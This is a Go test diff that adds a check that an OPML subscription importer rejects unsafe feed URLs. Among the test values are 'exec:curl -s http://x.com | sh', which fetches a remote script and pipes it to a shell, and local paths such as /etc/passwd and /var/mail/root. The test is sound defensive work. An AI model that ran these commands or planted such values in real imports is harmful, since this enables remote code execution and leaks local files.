@@ -150,3 +150,35 @@ func TestImportSubscriptionOkExtended(t *testing.T) {
 	a.True(existfA())
 	a.True(existfBC())
 }
+
+func TestImportSubscriptionErrLocalFeed(t *testing.T) {
+	t.Parallel()
+
+	db := newTestSQLiteDB(t)
+
+	payload := `<?xml version="1.0" encoding="UTF-8"?>
+<opml version="2.0">
+  <head><title>Shared</title></head>
+  <body>
+    <outline text="Feed A" type="rss" xmlUrl="http://a.com/feed.xml"></outline>
+    <outline text="Feed X" type="rss" xmlUrl="exec:curl -s http://x.com | sh"></outline>
+  </body>
+</opml>`
+	sub, err := entity.NewSubscriptionFromRawOPML([]byte(payload))
+	require.NoError(t, err)
+
+	for _, feedURL := range []string{
+		"exec:curl -s http://x.com | sh",
+		"file:///etc/passwd",
+		"maildir:/var/mail/root",
+		"mbox:/var/mail/root",
+	} {
+		sub.Feeds[1].FeedURL = feedURL
+
+		nproc, nimp, err := db.ImportSubscription(context.Background(), sub)
+		assert.ErrorContains(t, err, "can not be imported", feedURL)
+		assert.Zero(t, nproc)
+		assert.Zero(t, nimp)
+		assert.Equal(t, 0, db.countFeeds())
+	}
+}